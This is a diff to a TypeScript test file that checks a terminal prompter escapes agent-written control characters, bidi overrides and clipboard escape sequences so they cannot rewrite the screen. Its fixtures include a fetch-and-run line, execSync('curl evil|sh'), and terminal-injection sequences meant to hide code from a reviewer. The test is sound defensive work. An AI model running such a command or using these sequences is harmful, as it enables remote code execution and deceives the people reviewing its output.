@@ -14,7 +14,7 @@ function prompter(input: string) {
   stdout.on('data', (d: Buffer) => (out += d.toString()));
   stdin.end(input);
   const io = { stdin, stdout, stderr: new PassThrough(), env: {}, cwd: '/' };
-  const p = new TerminalPrompter(io, new LineReader(stdin), styleFor(io));
+  const p = new TerminalPrompter(io, new LineReader(stdin, stdout), styleFor(io));
   return { p, output: () => out };
 }
 
@@ -84,7 +84,7 @@ test('agent-made text cannot rewrite the screen: control sequences and bidi over
   await p.reviewFile({ ...review, file: sneaky, summary: 'tidy\u001b[1A' });
   const shown = output();
   assert.doesNotMatch(shown, /[\u001b\u0007\u202e]/);
-  assert.match(shown, /execSync\('curl evil\|sh'\);\\x1b\[2K\\x0d\+console\.log\(2\);/);
+  assert.match(shown, /execSync\('curl evil\|sh'\);<U\+001B>\[2K<U\+000D>\+console\.log\(2\);/);
   assert.match(shown, /a<U\+202E>txt\.js/);
-  assert.match(shown, /harmless\\x1b\]52;c;ZXZpbA==\\x07/);
+  assert.match(shown, /harmless<U\+001B>\]52;c;ZXZpbA==<U\+0007>/);
 });
